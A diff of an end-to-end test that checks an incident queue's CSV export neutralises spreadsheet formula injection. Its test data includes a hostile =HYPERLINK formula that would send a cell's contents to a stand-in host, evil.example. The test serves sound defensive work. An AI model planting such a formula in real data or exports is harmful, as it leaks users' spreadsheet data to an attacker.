@@ -83,7 +83,8 @@ test("an analyst works the all-tenants queue from the store; hostile incident te
 
 test("an analyst exports the queue's view as CSV, every page and only its filters; a formula in a customer's title arrives inert; the export is audited", async ({ page, request }) => {
   // A title chosen by an attacker, which a spreadsheet would run as a formula.
-  const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open report ${Date.now()}")`;
+  const report = `Open report ${Date.now()}`;
+  const title = `=HYPERLINK("https://evil.example/?d="&A1,"${report}")`;
   await raiseIncident(request, PROSEWARE_TENANT_ID, title, { severity: "high" });
   await signInAs(page, "Sam Analyst", "/incidents?range=180d");
   await page.getByRole("button", { name: "Refresh" }).click();
@@ -103,7 +104,7 @@ test("an analyst exports the queue's view as CSV, every page and only its filter
     expect([before, await shown()]).toContain(rows.length);
     expect(new Set(rows.map(([, tenantId, id]) => `${tenantId}/${id}`)).size).toBe(rows.length);
     if (filter) expect(new Set(rows.map((row) => row[4]))).toEqual(new Set(["high"]));
-    expect(rows.find((row) => row[3].includes("evil.example"))?.[3]).toBe(`'${title}`);
+    expect(rows.find((row) => row[3].includes(report))?.[3]).toBe(`'${title}`);
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   }
 
